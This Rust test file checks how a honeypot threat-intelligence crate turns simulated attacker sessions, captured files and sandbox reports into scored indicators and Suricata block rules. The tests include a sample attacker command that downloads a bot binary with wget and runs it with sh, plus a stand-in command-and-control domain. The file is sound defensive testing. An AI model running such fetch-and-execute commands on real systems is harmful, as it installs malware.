//! The life of indicators as a user of the crate sees it: events in, indicators and rules out.
#![allow(clippy::unwrap_used, reason = "tests")]
use core::net::IpAddr;
use otori_event::event::DownloadOutcome;
use otori_event::report::{Behaviour, Contact, End, Report};
use otori_event::*;
use otori_intel::{Guard, Intel, Policy};

const SESSION: u64 = 0x5e55;
const DAY: i64 = 86_400;

struct Scene {
    intel: Intel,
    now: Timestamp,
    sequence: u32,
    demo: bool,
    out: Vec<EventKind>,
}

impl Scene {
    fn new(policy: Policy) -> Scene {
        let now = Timestamp::from_ms(1_795_000_000_000);
        Scene { intel: Intel::new(policy), now, sequence: 0, demo: false, out: Vec::new() }
    }
    fn public() -> Scene {
        Scene::new(Policy { treat_documentation_as_public: true, ..Policy::default() })
    }
    fn event(&mut self, kind: EventKind) -> Event {
        self.sequence += 1;
        self.now = self.now.plus_seconds(1);
        let id = EventId::new(self.now, SESSION, self.sequence);
        Event {
            id,
            at: self.now,
            product: None,
            session: Some(SessionId::new(SESSION)),
            demo: self.demo,
            kind,
        }
    }
    fn say(&mut self, kind: EventKind) -> &mut Scene {
        let event = self.event(kind);
        self.out.extend(self.intel.observe(&event));
        self
    }
    fn wait(&mut self, seconds: i64) -> &mut Scene {
        self.now = self.now.plus_seconds(seconds);
        self.out.extend(self.intel.tick(self.now));
        self
    }
    fn state(&self, kind: IndicatorKind, value: &str) -> Option<(IndicatorState, f64)> {
        self.intel.indicator(kind, value).map(|indicator| (indicator.state, indicator.score))
    }
    fn live(&self) -> Vec<String> {
        self.intel.rules().into_iter().map(|rule| rule.text).collect()
    }
}

fn endpoint(text: &str) -> Endpoint {
    text.parse::<std::net::SocketAddr>().unwrap().into()
}
fn opened(source: &str) -> EventKind {
    let (source, local) = (endpoint(source), endpoint("198.51.100.2:23"));
    EventKind::SessionOpened { front: "telnet".into(), source, local }
}
fn command(line: &str) -> EventKind {
    EventKind::Command { line: line.into() }
}
fn captured(url: Option<&str>) -> EventKind {
    let method = if url.is_some() { CaptureMethod::Http } else { CaptureMethod::Written };
    let artifact = Artifact {
        sha256: hash(),
        size: 9,
        name: "/tmp/b".into(),
        mode: 0o755,
        url: url.map(Into::into),
        method,
    };
    EventKind::FileCaptured { artifact }
}
fn hash() -> Sha256 {
    Sha256([7; 32])
}
fn contact(remote: &str, name: Option<&str>) -> Contact {
    Contact {
        remote: endpoint(remote),
        transport: Transport::Tcp,
        application: "unknown".into(),
        name: name.map(Into::into),
        url: None,
        bytes_out: 6,
        bytes_in: 0,
        first_bytes: "hello".into(),
        count: 1,
        first_ns: 5,
    }
}
fn report(contacts: Vec<Contact>, techniques: &[&str]) -> Report {
    let behaviour = |technique: &&str| Behaviour {
        technique: (*technique).into(),
        name: String::new(),
        evidence: String::new(),
    };
    Report {
        sha256: hash(),
        class: Classification::default(),
        end: End::Exited { status: 0 },
        virtual_ns: 1,
        instructions: 1,
        syscalls: Default::default(),
        unsupported: Default::default(),
        processes: vec![],
        files: vec![],
        contacts,
        names: vec![],
        dropped: vec![],
        behaviours: techniques.iter().map(behaviour).collect(),
        output: RawText::default(),
        trace: vec![],
        trace_omitted: 0,
    }
}
fn detonated(report: Report) -> EventKind {
    EventKind::Detonated { report: Box::new(report) }
}

#[test]
fn a_captured_and_detonated_file_blocks_its_url_and_its_server() {
    let mut scene = Scene::public();
    scene
        .say(opened("203.0.113.9:40000"))
        .say(command("wget http://198.51.100.80/bot.mipsel; sh bot.mipsel"));
    assert_eq!(
        scene.state(IndicatorKind::Url, "http://198.51.100.80/bot.mipsel"),
        Some((IndicatorState::Observed, 60.0))
    );
    assert!(scene.live().is_empty());
    scene.say(captured(Some("http://198.51.100.80:80/bot.mipsel")));
    scene.say(detonated(report(vec![contact("198.51.100.44:4444", None)], &["T1095"])));
    assert_eq!(
        scene.state(IndicatorKind::Url, "http://198.51.100.80/bot.mipsel"),
        Some((IndicatorState::Active, 90.0))
    );
    assert_eq!(scene.state(IndicatorKind::Address, "198.51.100.44"), Some((IndicatorState::Active, 70.0)));
    assert_eq!(
        scene.state(IndicatorKind::Service, "tcp/198.51.100.44:4444"),
        Some((IndicatorState::Active, 70.0))
    );
    assert_eq!(
        scene.state(IndicatorKind::Sha256, &hash().to_string()),
        Some((IndicatorState::Candidate, 90.0))
    );
    assert_eq!(scene.state(IndicatorKind::Address, "198.51.100.80"), Some((IndicatorState::Observed, 60.0)));
    assert_eq!(scene.state(IndicatorKind::Address, "203.0.113.9"), Some((IndicatorState::Observed, 5.0)));
    let rules = scene.live();
    assert_eq!(rules.len(), 5, "{rules:#?}");
    assert!(rules.iter().any(|rule| rule.contains("http.uri; content:\"/bot.mipsel\"")));
    assert!(rules.iter().any(|rule| rule.starts_with("drop tcp any any -> 198.51.100.44 4444 ")));
    let url = scene.intel.indicator(IndicatorKind::Url, "http://198.51.100.80/bot.mipsel").unwrap();
    assert!(url.evidence.iter().all(|piece| !piece.events.is_empty() && piece.events.len() <= 16));
    assert!(url.evidence.iter().any(|piece| piece.artifact == Some(hash())));
    // after eight days all of it is over
    scene.out.clear();
    scene.wait(8 * DAY);
    assert!(scene.live().is_empty());
    assert_eq!(scene.state(IndicatorKind::Address, "198.51.100.44"), Some((IndicatorState::Stale, 0.0)));
    let removed = scene
        .out
        .iter()
        .filter(|kind| matches!(kind, EventKind::RuleChanged { change: RuleChange::Remove { .. } }));
    assert_eq!(removed.count(), 5);
}

#[test]
fn documentation_private_and_own_addresses_stay_guarded() {
    let mut scene = Scene::new(Policy::default());
    scene.say(opened("203.0.113.9:40000")).say(captured(None));
    scene.say(detonated(report(
        vec![
            contact("198.51.100.44:4444", None),
            contact("10.0.0.1:80", None),
            contact("8.8.8.8:53", None),
            contact("104.16.1.1:443", None),
            contact("198.18.3.3:80", Some("pastebin.com")),
        ],
        &["T1095"],
    )));
    assert!(scene.live().is_empty(), "{:?}", scene.live());
    for value in ["198.51.100.44", "10.0.0.1", "8.8.8.8", "104.16.1.1"] {
        let indicator = scene.intel.indicator(IndicatorKind::Address, value).unwrap();
        assert_eq!(indicator.state, IndicatorState::Guarded, "{value}");
        assert!(indicator.guard_reason.is_some());
    }
    assert_eq!(scene.state(IndicatorKind::Domain, "pastebin.com").unwrap().0, IndicatorState::Guarded);
    assert!(scene.intel.indicator(IndicatorKind::Address, "198.18.3.3").is_none());
    // our own decoy's side of a session, even where documentation counts as public
    let mut scene = Scene::public();
    scene.say(opened("203.0.113.9:1")).say(detonated(report(vec![contact("198.51.100.2:23", None)], &[])));
    assert_eq!(scene.state(IndicatorKind::Address, "198.51.100.2").unwrap().0, IndicatorState::Guarded);
}

#[test]
fn scan_victims_are_no_servers_and_fake_addresses_stand_for_names() {
    let mut contacts: Vec<Contact> = (1..40).map(|i| contact(&format!("203.0.113.{i}:23"), None)).collect();
    contacts.push(contact("198.18.0.9:48101", Some("cnc.evil.example")));
    let mut scene = Scene::public();
    scene.say(detonated(report(contacts, &["T1046"])));
    let rules = scene.live();
    assert_eq!(rules.len(), 3, "{rules:#?}");
    assert!(
        rules
            .iter()
            .any(|rule| rule
                .contains("dns.query; dotprefix; content:\".cnc.evil.example\"; nocase; endswith;"))
    );
    assert!(rules.iter().all(|rule| !rule.contains("203.0.113.")));
}

#[test]
fn demonstrations_make_no_rules_unless_told_and_never_mix_with_real_evidence() {
    let play = |policy: Policy| {
        let mut scene = Scene::new(policy);
        scene.demo = true;
        scene.say(opened("127.0.0.1:40000")).say(captured(Some("http://198.51.100.80/b")));
        // the lab's own event does not say that the artifact is a demonstration
        scene.demo = false;
        scene.say(detonated(report(vec![contact("198.51.100.44:4444", None)], &["T1095"])));
        scene
    };
    let public = Policy { treat_documentation_as_public: true, ..Policy::default() };
    let mut scene = play(public.clone());
    assert!(scene.live().is_empty());
    let url = scene.intel.indicator(IndicatorKind::Url, "http://198.51.100.80/b").unwrap();
    assert!(url.demo && url.state == IndicatorState::Candidate);
    assert!(!play(Policy { enforce_demo: true, ..public }).live().is_empty());
    // one real sighting does not inherit the score of the demonstration
    scene.say(command("wget http://198.51.100.80/b"));
    let url = scene.intel.indicator(IndicatorKind::Url, "http://198.51.100.80/b").unwrap();
    assert_eq!((url.demo, url.score, url.state), (false, 60.0, IndicatorState::Observed));
}

#[test]
fn a_veto_holds_until_lifted_and_a_revocation_until_its_end() {
    let mut scene = Scene::public();
    let bad = || detonated(report(vec![contact("198.51.100.44:4444", None)], &["T1095"]));
    scene.say(bad());
    let (kind, value) = (IndicatorKind::Address, "198.51.100.44");
    let sids: Vec<u32> = scene.intel.rules().iter().map(|rule| rule.sid).collect();
    scene.intel.veto(kind, value, "our partner", scene.now).unwrap();
    scene.say(bad()).wait(30 * DAY).say(bad());
    assert_eq!(scene.state(kind, value).unwrap().0, IndicatorState::Vetoed);
    let now = scene.now;
    scene.intel.lift(kind, value, now).unwrap();
    assert_eq!(scene.state(kind, value).unwrap().0, IndicatorState::Active);
    let again: Vec<u32> = scene.intel.rules().iter().map(|rule| rule.sid).collect();
    assert_eq!(sids, again, "the same rules have the same numbers");
    scene.intel.revoke(kind, value, "false positive", now).unwrap();
    scene.say(bad());
    assert_eq!(scene.state(kind, value).unwrap().0, IndicatorState::Revoked);
    assert_eq!(scene.live().len(), 2, "its service is still blocked");
    scene.wait(8 * DAY).say(bad());
    assert_eq!(scene.state(kind, value).unwrap().0, IndicatorState::Active);
    assert!(scene.intel.veto(kind, "not an address", "", now).is_err());
}

#[test]
fn a_restart_keeps_indicators_rules_and_what_was_fetched_from_where() {
    let mut scene = Scene::public();
    scene.say(opened("203.0.113.9:1")).say(EventKind::DownloadRequested {
        url: "http://198.51.100.80/b".into(),
        outcome: DownloadOutcome::Fetched { sha256: hash(), size: 9 },
    });
    scene.say(detonated(report(vec![contact("198.51.100.44:4444", None)], &[])));
    let indicators: Vec<Indicator> = latest(&scene.out);
    let rules = scene.intel.rules();
    let mut second = Scene::public();
    second.now = scene.now;
    second.intel.restore(indicators, rules.clone());
    second.wait(1);
    assert_eq!(second.intel.rules(), rules);
    assert!(second.out.is_empty(), "nothing is announced twice: {:?}", second.out);
    second.say(detonated(report(vec![], &["T1485"])));
    assert_eq!(second.state(IndicatorKind::Url, "http://198.51.100.80/b").unwrap().0, IndicatorState::Active);
}

/// Last value of each indicator, as a store would keep it.
fn latest(out: &[EventKind]) -> Vec<Indicator> {
    let mut last = std::collections::BTreeMap::new();
    for kind in out {
        if let EventKind::IndicatorChanged { indicator } = kind {
            last.insert((indicator.kind, indicator.value.clone()), (**indicator).clone());
        }
    }
    last.into_values().collect()
}

struct Random(u64);
impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn text(&mut self) -> String {
        let alphabet: Vec<char> = "ab./:;\"|\\%@#?&[]0129xé\u{202e} \n".chars().collect();
        (0..self.next() % 24).map(|_| alphabet[(self.next() % alphabet.len() as u64) as usize]).collect()
    }
    fn address(&mut self) -> IpAddr {
        let low = self.next() as u32;
        match self.next() % 4 {
            0 => IpAddr::V6((u128::from(self.next()) << 64 | u128::from(low)).into()),
            1 => IpAddr::V4((0x0a00_0000 | low & 0xff_ffff).into()),
            2 => IpAddr::V4((0xc633_6400 | low & 0xff).into()),
            _ => IpAddr::V4(low.into()),
        }
    }
}

/// Suricata's outer syntax: header of seven words, options in brackets, quotes closed, nothing unprintable.
fn assert_is_rule(text: &str) {
    assert!(text.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{text:?}");
    let (head, options) = text.split_once(" (").unwrap();
    assert_eq!(head.split(' ').count(), 7, "{text}");
    let options = options.strip_suffix(")").unwrap();
    assert_eq!(options.matches('"').count() % 2, 0, "{text}");
    for option in options.strip_suffix(';').unwrap().split("; ") {
        let (name, value) = option.split_once(':').unwrap_or((option, ""));
        let known = "msg flow http.host http.uri http.uri.raw content startswith endswith depth within dns.query \
                     tls.sni dotprefix nocase sid rev metadata";
        assert!(known.split_whitespace().any(|keyword| keyword == name), "{name:?} in {text}");
        if name == "content" {
            let inner = value.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).unwrap();
            for (i, part) in inner.split('|').enumerate() {
                let hex = |word: &str| word.len() == 2 && u8::from_str_radix(word, 16).is_ok();
                assert!(
                    if i % 2 == 1 { part.split(' ').all(hex) } else { !part.contains([';', ':', '\\']) },
                    "{text}"
                );
            }
        }
    }
}

#[test]
fn whatever_attackers_send_no_guarded_thing_is_blocked_and_bounds_hold() {
    let mut random = Random(0x0070_6f74_7269);
    let policy = Policy { max_indicators: 400, max_rules: 300, ..Policy::default() };
    let guard = Guard::new(&policy);
    let mut scene = Scene::new(policy);
    for round in 0..3000 {
        let address = random.address();
        let port = random.next() as u16;
        let remote = std::net::SocketAddr::new(address, port).to_string();
        let url = format!("http://{}/{}", random.text(), random.text());
        let name = format!("{}.{}", random.text(), random.text());
        match round % 5 {
            0 => scene.say(opened(&remote)),
            1 => scene.say(command(&url)),
            2 => scene.say(captured(Some(&url))),
            3 => scene.say(EventKind::Exploit { technique: "x".into(), detail: "y".into() }),
            _ => {
                let mut contact = contact(&remote, (round % 2 == 0).then_some(name.as_str()));
                contact.url = Some(url);
                scene.say(detonated(report(vec![contact], &["T1095"])))
            }
        };
        if round % 100 == 0 {
            scene.wait(3600);
        }
        let stats = scene.intel.stats();
        assert!(stats.states.values().sum::<usize>() <= 400 && stats.rules <= 300);
    }
    assert!(scene.intel.stats().evicted > 0 && !scene.live().is_empty());
    let added = scene.out.iter().filter_map(|kind| match kind {
        EventKind::RuleChanged { change: RuleChange::Add { rule } } => Some(rule),
        _ => None,
    });
    let mut count = 0;
    for rule in added {
        count += 1;
        assert_is_rule(&rule.text);
        assert!((9_000_000..10_000_000).contains(&rule.sid));
        assert_eq!(guard.forbids(rule.indicator_kind, &rule.indicator), None, "{}", rule.text);
    }
    assert!(count > 100, "{count} rules");
}

#[test]
fn more_evidence_never_lowers_the_score_and_time_never_raises_it() {
    let mut scene = Scene::public();
    scene.say(opened("203.0.113.9:1"));
    let score = |scene: &Scene| scene.state(IndicatorKind::Address, "203.0.113.9").unwrap().1;
    let mut last = score(&scene);
    for kind in [
        EventKind::LoginAttempt { user: "root".into(), password: "x".into(), success: false },
        EventKind::Exploit { technique: "telnet-shell".into(), detail: "sh".into() },
        captured(None),
        detonated(report(vec![contact("203.0.113.9:6667", None)], &[])),
    ] {
        scene.say(kind);
        assert!(score(&scene) > last);
        last = score(&scene);
    }
    let indicator = scene.intel.indicator(IndicatorKind::Address, "203.0.113.9").unwrap().clone();
    let mut before = f64::MAX;
    for hour in 0..200 {
        let now = otori_intel::score::decayed(&indicator, scene.now.plus_seconds(hour * 3600));
        assert!(now <= before && (0.0..=100.0).contains(&now));
        before = now;
    }
    assert_eq!(before, 0.0);
}
